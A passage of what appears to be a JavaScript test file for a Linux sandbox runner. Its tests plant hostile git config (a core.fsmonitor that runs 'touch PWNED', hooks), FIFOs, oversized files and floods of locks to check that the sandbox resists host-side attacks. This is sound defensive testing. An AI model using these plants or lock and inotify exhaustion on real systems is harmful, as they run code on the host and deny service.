    const r = await sandspawn.runWithEscalation(['bash', '-c', script], { cwd: tree.ws, sandbox: WW, timeout: 15000, approve: () => true })
    assert.equal(r.escalated, true, show(r))
    assert.deepEqual(r.hostRisks.map((h) => [h.kind, h.path]), [['repository-created', path.join(tree.ws, 'sub/repo/.git')]])
  })

  test('the CLI prints one warning line per entry', { skip: NO_GIT }, async (t) => {
    const tree = tempTree(t)
    const cli = path.join(__dirname, '../../bin/sandspawn.js')
    const r = await new Promise((resolve) => setImmediate(() => resolve(spawnSync(process.execPath, [cli, '--mode', 'workspace-write', '--cwd', tree.ws, '--', 'bash', '-c', 'git init -q a && git init -q b && mkdir c && echo x > c/.mcp.json'], { encoding: 'utf8', timeout: 30000 }))))
    assert.equal(r.status, 0, r.stderr)
    const lines = r.stderr.split('\n').filter((l) => l.startsWith('sandspawn: warning:'))
    assert.deepEqual(lines.map((l) => l.split(': ').slice(2, 4).join(': ')), [
      `repository-created: ${path.join(tree.ws, 'a/.git')}`,
      `repository-created: ${path.join(tree.ws, 'b/.git')}`,
      `protected-name-created: ${path.join(tree.ws, 'c/.mcp.json')}`,
    ], r.stderr)
  })
})

// Found by an attacker's review: the host read the configuration of a repository the run created
// (to name its risky settings) with no care for what the file was: a FIFO blocked a host thread in
// open() forever (the run never settled, its timeout was ignored), a huge file or a link to
// /dev/zero was read whole into the host's memory. Each is now reported as not judged instead.
describe("a created repository's configuration the host cannot read safely", () => {
  /**
   * `promise`, or a failure once `ms` have passed. A host thread stuck on a planted FIFO is then
   * let go (each FIFO opened for writing and closed: the reader sees its end), so the file fails
   * rather than hangs.
   */
  async function settlesWithin(promise, ms, fifos) {
    let timer
    const late = new Promise((resolve) => (timer = setTimeout(() => resolve('late'), ms)))
    const r = await Promise.race([promise, late])
    clearTimeout(timer)
    if (r !== 'late') return r
    let settled = false
    promise.then(() => (settled = true), () => (settled = true))
    for (let i = 0; i < 200 && !settled; i++) {
      for (const f of fifos) {
        try {
          fs.closeSync(fs.openSync(f, fs.constants.O_WRONLY | fs.constants.O_NONBLOCK))
        } catch {
          // ENXIO: nobody reads it now
        }
      }
      await sleep(50)
    }
    assert.fail(`the run did not settle within ${ms} ms (its timeout is 15 s): a host thread was blocked on a planted file`)
  }

  for (const mode of ['bwrap', 'landlock']) {
    test(`${mode}: a FIFO, an oversized file and a link to /dev/zero as config: the run settles in time and each repository is reported, its configuration not judged`, { timeout: 120_000 }, async (t) => {
      const tree = tempTree(t)
      fs.mkdirSync(path.join(tree.ws, 'src'))
      // Made by the host: the Landlock mode grants /tmp entry by entry when it holds sandspawn's
      // state (a tool-cache store there), and the command could then not create it.
      const shared = path.join('/tmp', token('cfg'))
      fs.mkdirSync(shared)
      t.after(() => rmrf(shared))
      const ws = (p) => path.join(tree.ws, p)
      const fifos = ['src/fifo/.git/config', 'src/wt/.git/config.worktree', 'src/common/.git/commondir', 'src/folder/config'].map(ws).concat(path.join(shared, 'config'))
      const script = [
        'set -e',
        `gitdir() { mkdir -p "$1/objects" "$1/refs"; echo 'ref: refs/heads/main' > "$1/HEAD"; }`,
        'gitdir src/fifo/.git && mkfifo src/fifo/.git/config',
        'gitdir src/huge/.git && truncate -s 2M src/huge/.git/config',
        'gitdir src/zero/.git && ln -s /dev/zero src/zero/.git/config',
        `gitdir src/wt/.git && printf '[core]\\n\\tfsmonitor = x\\n' > src/wt/.git/config && mkfifo src/wt/.git/config.worktree`,
        'gitdir src/common/.git && mkfifo src/common/.git/commondir',
        'gitdir src/folder && mkfifo src/folder/config',
        `gitdir ${q(shared)} && mkfifo ${q(shared + '/config')} && ln -s ${q(shared)} src/lib`,
        'echo planted',
      ].join('\n')
      const options = { cwd: tree.ws, sandbox: WW, timeout: 15_000 }
      if (mode === 'landlock') options.linux = { allow: ['landlock'] }
      const r = await settlesWithin(sh(script, options), 30_000, fifos)
      assert.equal(r.exitCode, 0, show(r))
      assert.equal(r.stdout, 'planted\n', show(r))
      assert.equal(r.stderr, '', 'every step of the script worked')
      const expected = [
        ['repository-created', 'src/fifo/.git'],
        ['repository-created', 'src/huge/.git'],
        ['repository-created', 'src/zero/.git'],
        ['repository-created', 'src/wt/.git'],
        ['repository-created', 'src/common/.git'],
        ['git-directory-created', 'src/folder'],
        ['git-directory-created', 'src/lib'],
      ]
      for (const [kind, rel] of expected) {
        const risk = r.hostRisks.find((h) => h.path === ws(rel))
        assert.ok(risk, `${rel} is reported: ${JSON.stringify(r.hostRisks, null, 1)}`)
        assert.equal(risk.kind, kind, rel)
        assert.match(risk.detail, /could not be judged/, rel)
      }
      assert.match(r.hostRisks.find((h) => h.path === ws('src/wt/.git')).detail, /core\.fsmonitor/, 'what could be read is judged')
    })
  }
})

// Found by an attacker's review (fix21: incif_hooks.js, bigcfg.js, manyinc_fsmon.js): a host-made
// repository's hooks path from an `includeIf` file, or past the first MiB of its config, and the
// 65th file it included, were neither kept nor said: a run wrote a hook (or core.fsmonitor) that
// the host's next `git commit` (`git status`) ran. Each is kept now, or said in notEnforced.
describe("a repository's configuration read whole: includeIf, large files, many includes", () => {
  for (const mode of ['bwrap', 'landlock']) {
    test(`${mode}: the hooks directories and included files they name are kept; past the bounds the result says so`, { skip: NO_GIT, timeout: 120_000 }, async (t) => {
      const tree = tempTree(t)
      const ws = (p) => path.join(tree.ws, p)
      const repo = (rel) => {
        fs.mkdirSync(ws(`${rel}/tools`), { recursive: true })
        git(ws(rel), 'init', '-q')
        return ws(`${rel}/.git/config`)
      }
      git(tree.ws, 'init', '-q')
      fs.mkdirSync(ws('tools'))
      fs.appendFileSync(ws('.git/config'), '[includeIf "gitdir:/"]\n\tpath = ../git-local.cfg\n')
      fs.writeFileSync(ws('git-local.cfg'), '[core]\n\thooksPath = tools/hk\n')
      const big = '#'.repeat(99).concat('\n').repeat(11_000)
      fs.appendFileSync(repo('big'), `${big}[core]\n\thooksPath = tools/hk\n`)
      const many = repo('many')
      for (let i = 0; i < 70; i++) fs.writeFileSync(ws(`many/tools/i${i}`), '# empty\n')
      fs.appendFileSync(many, Array.from({ length: 70 }, (_, i) => `[include]\n\tpath = ../tools/i${i}\n`).join(''))
      fs.appendFileSync(repo('huge'), '[include]\n\tpath = ../tools/inc\n')
      fs.writeFileSync(ws('huge/tools/inc'), '')
      fs.truncateSync(ws('huge/tools/inc'), 17 << 20)
      // A missing hooks directory is kept absent: made during the run, it is moved aside after it.
      const script = [
        `mkdir -p tools/hk big/tools/hk; for d in tools/hk big/tools/hk; do printf '#!/bin/sh\\n' > $d/pre-commit; done`,
        attempts([['70th include', `printf '[core]\\n\\tfsmonitor = x\\n' >> many/tools/i69`]]),
      ].join('\n')
      const options = { cwd: tree.ws, sandbox: WW, timeout: 30_000 }
      if (mode === 'landlock') options.linux = { allow: ['landlock'] }
      const r = await sh(script, options)
      assertAllDenied(r, [['70th include']])
      for (const hook of ['tools/hk/pre-commit', 'big/tools/hk/pre-commit']) assert.ok(!fs.existsSync(ws(hook)), `${hook} stayed: ${show(r)}`)
      const said = r.sandboxDetails.notEnforced.filter((n) => n.includes(ws('huge/.git')))
      assert.equal(said.length, 1, show(r))
      assert.match(said[0], /MiB/)
    })
  }
})

// A plan another program runs (buildSandboxCommand): the helper in front of bwrap creates its
// placeholders and holds the directory's lock for the sandbox's life; the runner's cleanup must
// never remove a placeholder such a sandbox has mounted over.
describe('placeholders of a plan another program runs', () => {
  const WWT = { mode: 'workspace-write', tmp: 'private' }
  const entries = (dir) => fs.readdirSync(dir).sort()
  const modeOf = (p) => fs.lstatSync(p).mode & 0o7777
  // A file placeholder (the helper's placeholder::LINK_TARGET).
  const LINK_TARGET = '/dev/null/sandspawn-held'

  test('are made by the helper with their modes, the lock never reaches the command, and the next run removes them', (t) => {
    const tree = tempTree(t)
    const script = 'for f in /proc/self/fd/*; do echo "$f $(readlink $f)"; done; mkdir .vscode/x 2>/dev/null || echo REFUSED'
    const plan = sandspawn.buildSandboxCommand(['sh', '-c', script], { cwd: tree.ws, sandbox: WWT })
    const held = plan.args.filter((a) => a.startsWith('--hold-dir=')).map((a) => Number(a.split('=')[1].split(':')[0]))
    assert.equal(held.length, 1, plan.args.join(' '))
    const r = spawnSync(plan.program, plan.args, { cwd: plan.cwd, env: plan.env, encoding: 'utf8', timeout: 30_000 })
    assert.equal(r.status, 0, r.stderr)
    // The command holds no descriptor of the locked directory (it could unlock it).
    assert.doesNotMatch(r.stdout, new RegExp(`^/proc/self/fd/${held[0]} |${tree.ws}\\n`, 'm'), r.stdout)
    assert.match(r.stdout, /REFUSED\n$/)
    const left = entries(tree.ws)
    for (const n of ['.git', ...DEFAULT_NAMES]) assert.ok(left.includes(n), `${n} left until a run of the runner in this directory: ${left}`)
    // Directories for .git and the directory-like names (mode 1500), symlinks that lead nowhere
    // for the rest (see the test below).
    for (const n of left) {
      const dir = ['.git', '.vscode', '.idea', '.devcontainer', '.claude', '.cargo'].includes(n)
      if (dir || ['.envrc', '.npmrc', '.mcp.json', '.bashrc'].includes(n)) assert.equal(fs.lstatSync(path.join(tree.ws, n)).isDirectory(), dir, n)
      if (fs.lstatSync(path.join(tree.ws, n)).isDirectory()) assert.equal(modeOf(path.join(tree.ws, n)), 0o1500, n)
      else assert.equal(fs.readlinkSync(path.join(tree.ws, n)), LINK_TARGET, n)
    }
    return sandspawn.spawnSandboxed(['true'], { cwd: tree.ws, sandbox: WWT }).then((after) => {
      assert.equal(after.exitCode, 0, show(after))
      assert.deepEqual(entries(tree.ws), [], 'adopted and removed by the next run')
    })
  })

  // Found last session, left open: the file placeholders' covers were made from an empty file in
  // the sandbox's /dev/shm, which a denyRead mask over /dev hides, so every such plan failed setup
  // ("creating the empty file for the placeholders (/dev/shm/.sandspawn-cover) failed").
  test('with a denyRead mask over /dev, its file placeholders are still covered read-only', (t) => {
    const tree = tempTree(t)
    const script = 'cat .envrc; echo planted > .envrc 2>/dev/null || echo REFUSED; echo x > .npmrc 2>/dev/null || echo REFUSED'
    const plan = sandspawn.buildSandboxCommand(['sh', '-c', script], { cwd: tree.ws, sandbox: { ...WWT, denyRead: ['/dev'] } })
    const r = spawnSync(plan.program, plan.args, { cwd: plan.cwd, env: plan.env, encoding: 'utf8', timeout: 30_000 })
    assert.equal(r.status, 0, r.stderr)
    assert.equal(r.stdout, 'REFUSED\nREFUSED\n', r.stderr)
    for (const n of ['.envrc', '.npmrc']) assert.equal(fs.readlinkSync(path.join(tree.ws, n)), LINK_TARGET, `${n} replaced`)
  })

  // Found by an attacker's review (plan36): a plan's file placeholders were empty files of mode
  // 1400, left after it on the host, where tools took them for the project's files: an empty
  // package.json above a script made \`node\` fail to parse it (at a shared /tmp's top, every
  // script under /tmp without a package.json of its own), \`npm\` take that directory for the
  // project, an empty Cargo.toml stopped \`cargo\`. A symlink that leads nowhere is taken for absent.
  test('its leftover file placeholders are names the host\'s tools take for absent', (t) => {
    const tree = tempTree(t)
    const top = path.join(tree.root, 'top')
    const between = path.join(top, 'x')
    fs.mkdirSync(path.join(between, 'e'), { recursive: true })
    fs.mkdirSync(path.join(between, 's'))
    fs.writeFileSync(path.join(between, 's', 'a.js'), 'console.log("ran")\n')
    // `x` lies between a writable root and one nested in it: the names tools search upward for are
    // kept there (package.json, Cargo.toml), placeholders in a plan.
    const sandbox = { ...WWT, writableRoots: [top, path.join(between, 'e')] }
    const plan = sandspawn.buildSandboxCommand(['cat', path.join(between, 'package.json')], { cwd: tree.ws, sandbox })
    assert.ok(plan.args.includes(`--placeholder-file=${plan.args.find((a) => a.endsWith(`:${between}`)).split('=')[1].split(':')[0]}:package.json`), plan.args.join(' '))
    const r = spawnSync(plan.program, plan.args, { cwd: plan.cwd, env: plan.env, encoding: 'utf8', timeout: 30_000 })
    assert.equal(r.status, 0, `covered inside as an empty read-only file: ${r.stderr}`)
    assert.equal(r.stdout, '')
    const node = spawnSync(process.execPath, [path.join(between, 's', 'a.js')], { encoding: 'utf8', timeout: 30_000 })
    assert.equal(node.stdout, 'ran\n', `the host's node beside the leftover package.json: ${node.stderr}`)
    assert.equal(node.status, 0)
    // An empty node_modules directory there made npm take `x` for the project's root, and an
    // `npm install` in `s` install into the placeholder.
    const npm = which('npm')
    if (npm) {
      const env = { ...process.env, npm_config_update_notifier: 'false', npm_config_offline: 'true' }
      const prefix = spawnSync(npm, ['prefix'], { cwd: path.join(between, 's'), env, encoding: 'utf8', timeout: 60_000 })
      assert.equal(prefix.stdout.trim(), path.join(between, 's'), `npm's project root beside the leftover node_modules: ${prefix.stderr}`)
    }
    for (const n of ['package.json', 'node_modules']) assert.equal(fs.readlinkSync(path.join(between, n)), LINK_TARGET, `${n} left until a run of the runner there`)
  })

  // A leftover file placeholder is a symlink: the next run must take the name for missing (kept
  // absent), not for a symlink whose target it protects (a dangling one has none, and the name was
  // left unheld: neither kept absent nor removed).
  test('the next run keeps a leftover file placeholder\'s name absent and removes the placeholder', async (t) => {
    const tree = tempTree(t)
    const plan = sandspawn.buildSandboxCommand(['true'], { cwd: tree.ws, sandbox: WWT })
    const r = spawnSync(plan.program, plan.args, { cwd: plan.cwd, env: plan.env, encoding: 'utf8', timeout: 30_000 })
    assert.equal(r.status, 0, r.stderr)
    assert.equal(fs.readlinkSync(path.join(tree.ws, '.envrc')), LINK_TARGET)
    const after = await sandspawn.spawnSandboxed(['sh', '-c', 'rm -f .envrc && echo "echo planted" > .envrc && sleep 0.3'], { cwd: tree.ws, sandbox: WWT, timeout: 20_000 })
    assert.equal(after.exitCode, 0, show(after))
    assert.ok(after.hostRisks.some((h) => h.kind === 'protected-name-created' && h.path === path.join(tree.ws, '.envrc')), show(after))
    assert.ok(!fs.existsSync(path.join(tree.ws, '.envrc')), 'moved aside')
    assert.deepEqual(entries(tree.ws).filter((n) => !n.startsWith('.envrc.sandspawn-held-')), [], 'the other placeholders removed')
  })

  test('a run that ends while such a plan is still running leaves its placeholders mounted', async (t) => {
    const tree = tempTree(t)
    const script = 'echo READY; read go; echo planted > .envrc 2>/dev/null || echo REFUSED; echo x > .mcp.json/y 2>/dev/null || echo REFUSED'
    const plan = sandspawn.buildSandboxCommand(['sh', '-c', script], { cwd: tree.ws, sandbox: WWT })
    const child = require('node:child_process').spawn(plan.program, plan.args, { cwd: plan.cwd, env: plan.env, stdio: ['pipe', 'pipe', 'inherit'] })
    t.after(() => child.kill('SIGKILL'))
    let out = ''
    child.stdout.on('data', (d) => (out += d))
    const exited = new Promise((resolve) => child.on('close', (code) => resolve(code)))
    assert.ok(await waitFor(() => out.includes('READY'), 20_000), 'the plan started')
    // A run of the runner in the same directory starts and ends meanwhile: its cleanup must find
    // the directory in use and leave the placeholders (removing one would detach the mount there).
    const r = await sandspawn.spawnSandboxed(['true'], { cwd: tree.ws, sandbox: WWT })
    assert.equal(r.exitCode, 0, show(r))
    assert.equal(fs.readlinkSync(path.join(tree.ws, '.envrc')), LINK_TARGET, 'still there while the plan runs')
    child.stdin.end('go\n')
    assert.equal(await exited, 0)
    assert.equal(out, 'READY\nREFUSED\nREFUSED\n')
    assert.equal(fs.readlinkSync(path.join(tree.ws, '.envrc')), LINK_TARGET, 'nothing was planted through a detached placeholder')
    await new Promise((resolve) => setImmediate(resolve))
    const again = await sandspawn.spawnSandboxed(['true'], { cwd: tree.ws, sandbox: WWT })
    assert.equal(again.exitCode, 0, show(again))
    assert.deepEqual(entries(tree.ws), [])
  })

  /** A run holding a lock on the workspace's top (`script` prints HELD once it holds it), ended by `t.after`. */
  async function lockingRun(t, ws, script, sandbox) {
    let out = ''
    const run = await sandspawn.startSandboxed(['python3', '-c', script], { cwd: ws, sandbox, timeout: 40_000, onOutput: (c) => (out += c.data) })
    t.after(() => run.kill('SIGKILL'))
    assert.ok(await waitFor(() => out.includes('HELD'), 10_000), `the run holds its lock: ${out}`)
    return run
  }
  const HOLD = (lock) => `import os, fcntl, time\nfd = os.open('.', os.O_RDONLY | os.O_DIRECTORY)\n${lock}\nprint('HELD', flush=True)\ntime.sleep(30)`

  // Found by an attacker's review: the helper in front of bwrap waited for a shared flock on each
  // directory it holds (the cwd, /tmp), so any process that held an exclusive one there (a run, even
  // read-only; another user on the shared /tmp) stalled every such plan for as long as it liked.
  test("a lock another process holds on the workspace neither stalls the plan nor keeps its leftovers", { skip: which('python3') === null && 'python3 is not installed' }, async (t) => {
    const tree = tempTree(t)
    const run = await lockingRun(t, tree.ws, HOLD('fcntl.flock(fd, fcntl.LOCK_EX)'), 'read-only')
    const plan = sandspawn.buildSandboxCommand(['echo', 'B ran'], { cwd: tree.ws, sandbox: WWT })
    assert.ok(plan.args.some((a) => a.startsWith('--hold-dir=')), plan.args.join(' '))
    const started = Date.now()
    // A hang bound under the holder's 30 s: a loaded machine takes seconds to start a plan.
    const r = spawnSync(plan.program, plan.args, { cwd: plan.cwd, env: plan.env, encoding: 'utf8', timeout: 20_000 })
    assert.equal(r.stdout, 'B ran\n', `the plan ran at once (status ${r.status}, signal ${r.signal}, after ${Date.now() - started} ms): ${r.stderr}`)
    run.kill('SIGKILL')
    await run.wait()
    assert.ok(entries(tree.ws).includes('.git'), 'the plan left its placeholders')
    // A shared flock on the directory is no plan's either: the next run removes them.
    await lockingRun(t, tree.ws, HOLD('fcntl.flock(fd, fcntl.LOCK_SH)'), 'read-only')
    const after = await sandspawn.spawnSandboxed(['true'], { cwd: tree.ws, sandbox: WWT, timeout: 20_000 })
    assert.equal(after.exitCode, 0, show(after))
    assert.deepEqual(entries(tree.ws), [], 'removed although another process holds a lock on the directory')
  })

  // The lock the helper in front of bwrap takes now (the directory's lock file in sandspawn's state
  // directory, which only this user's processes can open) is not waited for without bound either.
  // The lock file's exclusive lock, as only sandspawn's own cleanup takes it: an OFD write lock,
  // on a descriptor opened for writing (python's fcntl, struct flock of x86_64 and aarch64).
  const OFD_HOLDER = `import fcntl, os, struct, sys, time
fd = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT, 0o600)
fcntl.fcntl(fd, 37, struct.pack('hhxxxxqqi4x', fcntl.F_WRLCK, 0, 0, 0, 0))
print('HELD', flush=True)
time.sleep(20)`
  const lockFileOf = (plan, dir) => {
    const locks = plan.args.find((a) => a.startsWith('--held-locks=')).slice('--held-locks='.length)
    const st = fs.statSync(dir, { bigint: true })
    return path.join(locks, `${st.dev}-${st.ino}`)
  }
  const holding = (t, argv) =>
    new Promise((resolve, reject) => {
      const holder = require('node:child_process').spawn(argv[0], argv.slice(1), { stdio: ['ignore', 'pipe', 'inherit'] })
      t.after(() => holder.kill('SIGKILL'))
      holder.stdout.once('data', () => resolve(holder))
      holder.once('exit', (code) => reject(new Error(`the holder ended (${code}) before it held the lock`)))
    })

  test('a held lock file ends the plan with a setup failure within seconds', { skip: which('python3') === null && 'python3 is not installed' }, async (t) => {
    const tree = tempTree(t)
    const plan = sandspawn.buildSandboxCommand(['echo', 'B ran'], { cwd: tree.ws, sandbox: WWT })
    await holding(t, ['python3', '-c', OFD_HOLDER, lockFileOf(plan, tree.ws)])
    const started = Date.now()
    // Hang bounds under the holder's 20 s: the plan gives up after 2 s of waiting, and a loaded
    // machine takes seconds to start bwrap and the helper around that wait.
    const r = spawnSync(plan.program, plan.args, { cwd: plan.cwd, env: plan.env, encoding: 'utf8', timeout: 15_000 })
    const took = Date.now() - started
    assert.equal(r.status, 125, `a setup failure (signal ${r.signal}): ${r.stderr}`)
    assert.match(r.stderr, /held exclusively for over 2 s/)
    assert.ok(took < 15_000, `after ${took} ms`)
    assert.equal(r.stdout, '')
  })

  // Found by a fixer: a Landlock-mode command can read sandspawn's state directory, and its
  // `flock -x` on a directory's lock file made every plan there fail after 2 s. It can open the
  // file for reading only, and the plan's lock is an OFD lock, which a flock does not meet.
  test('a flock of the lock file, all a command that can read it can take, keeps no plan out', async (t) => {
    const tree = tempTree(t)
    const plan = sandspawn.buildSandboxCommand(['echo', 'B ran'], { cwd: tree.ws, sandbox: WWT })
    const lockFile = lockFileOf(plan, tree.ws)
    fs.closeSync(fs.openSync(lockFile, 'a', 0o600))
    await holding(t, ['flock', '-x', lockFile, 'sh', '-c', 'echo HELD; sleep 20'])
    // A hang bound under the holder's 20 s: a loaded machine takes seconds to start a plan.
    const r = spawnSync(plan.program, plan.args, { cwd: plan.cwd, env: plan.env, encoding: 'utf8', timeout: 15_000 })
    assert.equal(r.status, 0, `signal ${r.signal}: ${r.stderr}`)
    assert.equal(r.stdout, 'B ran\n')
  })

  // Found by an attacker's review: the after-run undo left a planted entry in place whenever any
  // process held a POSIX read lock on its directory (meant for bwrap's `--lock-file` of a plan's
  // sandbox), so one run (a dev server) holding one switched off "kept absent" for the others.
  test("a POSIX read lock another run holds on the workspace's top does not keep a planted .git there", { skip: which('python3') === null && 'python3 is not installed' }, async (t) => {
    const tree = tempTree(t)
    await lockingRun(t, tree.ws, HOLD('fcntl.lockf(fd, fcntl.LOCK_SH)'), WW)
    // Made elsewhere and renamed into place: the keeper moves a new .git aside at once, and one
    // made in place could go between the mkdir and the write (the test failed 1 run in 5 so).
    const plant = "mkdir g && printf '[core]\\n\\tfsmonitor = touch PWNED\\n' > g/config && mv g .git && echo planted"
    const r = await sandspawn.spawnSandboxed(['sh', '-c', plant], { cwd: tree.ws, sandbox: WW, timeout: 20_000 })
    assert.equal(r.stdout, 'planted\n', show(r))
    assert.ok(!fs.existsSync(path.join(tree.ws, '.git')), `moved aside: ${entries(tree.ws)}\n${JSON.stringify(r.hostRisks)}`)
    const risk = r.hostRisks.find((h) => h.path === path.join(tree.ws, '.git'))
    assert.ok(risk && !/NOT undone/.test(risk.detail), JSON.stringify(r.hostRisks))
  })

  // Found by an attacker's review (kern31): to tell whether a read lock on the directory is a
  // plan's, the host read /proc/locks whole, and each read(2) of it walks the machine's lock list
  // from its head (a page of text a call): quadratic in the locks of the whole machine, which the
  // command makes as many of as it likes. A run that read-locked its workspace's top and took
  // 200,000 byte-range locks on files of its own kept the keeper in that read: a planted .envrc
  // stayed in the workspace for over a minute, and the run cost the host 19 s of CPU.
  test('a run holding a read lock on its top and 200,000 byte-range locks does not keep the keeper in /proc/locks', { skip: which('python3') === null && 'python3 is not installed' }, async (t) => {
    const tree = tempTree(t)
    const script = `import fcntl, os, time
d = os.open('.', os.O_RDONLY | os.O_DIRECTORY)
fcntl.lockf(d, fcntl.LOCK_SH)
os.mkdir('lk')
for f in range(200):
    fd = os.open('lk/%d' % f, os.O_RDWR | os.O_CREAT, 0o600)
    for i in range(1000):
        fcntl.lockf(fd, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, 2 * i)
open('.envrc', 'w').write('echo planted')
start = time.time()
while os.path.exists('.envrc') and time.time() - start < 20:
    time.sleep(0.01)
print('moved aside after %.1f s' % (time.time() - start) if not os.path.exists('.envrc') else 'still there after 20 s', flush=True)
`
    const before = process.cpuUsage()
    const r = await sandspawn.spawnSandboxed(['python3', '-c', script], { cwd: tree.ws, sandbox: WW, timeout: 60_000 })
    const used = process.cpuUsage(before)
    const hostMs = (used.user + used.system) / 1000
    assert.equal(r.exitCode, 0, show(r))
    const took = /moved aside after ([\d.]+) s/.exec(r.stdout)
    // A hang bound under the command's 20 s (the keeper stayed in that read for over a minute).
    assert.ok(took && Number(took[1]) < 15, `the keeper moved the planted .envrc aside at once: ${r.stdout.trim()}`)
    assert.ok(hostMs < 5_000, `the host's CPU for the run: ${hostMs.toFixed(0)} ms`)
  })

  // Found by an attacker's review (rfix31) of kern31's fix: the helper of every plan with held
  // directories still read /proc/locks (before the masks) to wait for bwrap's pid 1's locks, and
  // each read(2) walks the machine's whole lock list under the global file-lock lock: with
  // 1,000,000 byte-range locks held elsewhere (another run's command), each plan's start took
  // ~200 ms more of kernel time, holding that lock against every host flock and fcntl lock.
  test("a plan's helper waits for bwrap's locks without walking the machine's lock list", { skip: which('python3') === null && 'python3 is not installed' }, async (t) => {
    const tree = tempTree(t)
    const tick = Number(execFileSync('getconf', ['CLK_TCK'], { encoding: 'utf8' }))
    // The CPU the helper spent before it became the command: the helper execs the command in its
    // own process, whose times (the kernel's, per process) go on, so `cat /proc/self/stat` reads
    // the helper's setup (the lock wait among it) plus cat's own few instructions. Not the plan's
    // wall time: on a loaded machine that moves by more than the walk costs (it failed so here, at a load of 21: a plan
    // alone 70 ms, with the locks held 202, 193, 178 ms, the fix in place).
    const helperCpuMs = (label) => {
      const plan = sandspawn.buildSandboxCommand(['cat', '/proc/self/stat'], { cwd: tree.ws, sandbox: WWT })
      assert.ok(plan.args.some((a) => a.startsWith('--await-init-locks=')), plan.args.join(' '))
      const r = spawnSync(plan.program, plan.args, { cwd: plan.cwd, env: plan.env, encoding: 'utf8', timeout: 60_000 })
      assert.equal(r.status, 0, `${label}: ${r.stderr}`)
      // Fields after the command's name: state is the 3rd, utime the 14th, stime the 15th.
      const fields = r.stdout.slice(r.stdout.lastIndexOf(')') + 2).split(' ')
      return ((Number(fields[11]) + Number(fields[12])) * 1000) / tick
    }
    const alone = [1, 2, 3].map((i) => helperCpuMs(`plan ${i} alone`))
    const script = `import fcntl, os, sys
os.mkdir('lk')
for f in range(600):
    fd = os.open('lk/%d' % f, os.O_RDWR | os.O_CREAT, 0o600)
    for i in range(1000):
        fcntl.lockf(fd, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, 2 * i)
print('ready', flush=True)
sys.stdin.read()
`
    const other = fs.mkdtempSync(path.join(path.dirname(tree.ws), 'locks-'))
    t.after(() => rmrf(other))
    const holder = require('node:child_process').spawn('python3', ['-c', script], { cwd: other, stdio: ['pipe', 'pipe', 'inherit'] })
    t.after(() => holder.kill('SIGKILL'))
    await new Promise((resolve, reject) => {
      holder.stdout.on('data', (d) => String(d).includes('ready') && resolve())
      holder.on('exit', (code) => reject(new Error(`the lock holder ended: ${code}`)))
    })
    const held = [1, 2, 3].map((i) => helperCpuMs(`plan ${i}`))
    holder.stdin.end()
    // Each plan's least CPU: a walk of 600,000 locks took ~100 ms more a plan, in the kernel.
    assert.ok(Math.min(...held) < Math.min(...alone) + 50, `the helper's CPU (ms): alone ${alone.join(', ')}; with 600,000 locks held elsewhere ${held.join(', ')}`)
  })
})

// Found by an attacker's review: the keeper (what moves a planted .git aside at once while the run
// lives) needs an inotify instance, a budget per user (`fs.inotify.max_user_instances`, 128 by
// default) that every process of the user shares, sandboxed runs included. A run that spent it
// switched the keeper of every run started meanwhile off, silently: the .git stayed on the host for
// the whole run, for the host's `git status` (a shell prompt) to run its core.fsmonitor. Run as a
// uid of its own, so that only this test's holder spends that uid's budget (never root's), and
// the holder ends with the fixture (its stdin closes) or after 60 s at the latest.
const INOTIFY_UID = 64127 // a uid no other test uses
function cannotSpendInotify() {
  if (process.getuid() !== 0) return 'needs root to run as a user of its own, whose inotify instances it may spend'
  if (pythonForOthers() === null) return 'no python3 another user can run (one under /root, as pyenv puts it, is not)'
  const max = Number(fs.readFileSync('/proc/sys/fs/inotify/max_user_instances', 'utf8'))
  if (!(max <= 1024)) return `fs.inotify.max_user_instances is ${max}: too many to spend in a bounded way`
  return require('../fixtures/other-user').cannotRunAs(INOTIFY_UID)
}

// A python3 on PATH that another user can run: the file and every directory above it open to
// others (pyenv's shims under a 0700 /root are not; CI's first test runs failed with EACCES so).
function pythonForOthers() {
  for (const dir of (process.env.PATH || '').split(':').filter((d) => path.isAbsolute(d))) {
    let p
    try {
      p = fs.realpathSync(path.join(dir, 'python3'))
    } catch {
      continue
    }
    const open = (q) => (fs.statSync(q).mode & 0o001) !== 0
    const above = []
    for (let d = path.dirname(p); ; d = path.dirname(d)) {
      above.push(d)
      if (d === path.dirname(d)) break
    }
    if (open(p) && above.every(open)) return p
  }
  return null
}

test("a .git planted at the workspace's top is moved aside at once also when the user's inotify instances are spent", { skip: cannotSpendInotify() ?? false }, async (t) => {
  const { stagedCheckout, asUser } = require('../fixtures/other-user')
  const home = fs.realpathSync(fs.mkdtempSync('/var/tmp/sandspawn-inotify-'))
  t.after(() => fs.rmSync(home, { recursive: true, force: true }))
  const ws = path.join(home, 'ws')
  fs.mkdirSync(ws)
  for (const p of [home, ws]) fs.chownSync(p, INOTIFY_UID, INOTIFY_UID)
  fs.chmodSync(home, 0o755)
  const [cmd, args] = asUser(INOTIFY_UID, [path.join(stagedCheckout(), '__test__', 'fixtures', 'keeper-without-inotify.js'), ws])
  const out = await new Promise((resolve, reject) => {
    require('node:child_process').execFile(cmd, args, { cwd: ws, env: { PATH: process.env.PATH, HOME: home, SANDSPAWN_TEST_PYTHON: pythonForOthers() }, timeout: 90_000 }, (err, stdout, stderr) => {
      if (err) return reject(new Error(`${err.message}\n${stderr}`))
      resolve(JSON.parse(stdout))
    })
  })
  assert.equal(out.error, undefined, JSON.stringify(out))
  if (/no limit met/.test(out.holder)) return t.skip(`the holder met no limit: ${out.holder}`)
  assert.equal(out.spent, 'EMFILE', `the user's instances were spent: ${JSON.stringify(out)}`)
  assert.equal(out.run.exitCode, 0, JSON.stringify(out.run))
  assert.doesNotMatch(out.run.stdout, /STILL-THERE/, `moved aside while the run went on: ${JSON.stringify(out.run)}`)
  const risk = out.run.hostRisks.find((h) => h.path === path.join(ws, '.git'))
  assert.ok(risk && /undone at once: moved aside/.test(risk.detail), JSON.stringify(out.run.hostRisks))
  assert.ok(!fs.existsSync(path.join(ws, '.git')), 'and not there after the run')
})

// Found by an attacker's review: the keeper left alone what had a placeholder's shape when the
// kernel reported it (an empty directory of mode 1500, an empty file of mode 1400, as a plan another
// program runs makes them) and never looked at it again: the command then opened it up and filled
// it (a .git with core.fsmonitor), and it stayed on the host for the whole run, for the host's
// `git status` (an editor's, a shell prompt's) to run. Opened up with chmod (.git, .envrc), and
// filled without any change of its own attributes, through a descriptor opened before it took the
// shape (.bashrc): no event names that.
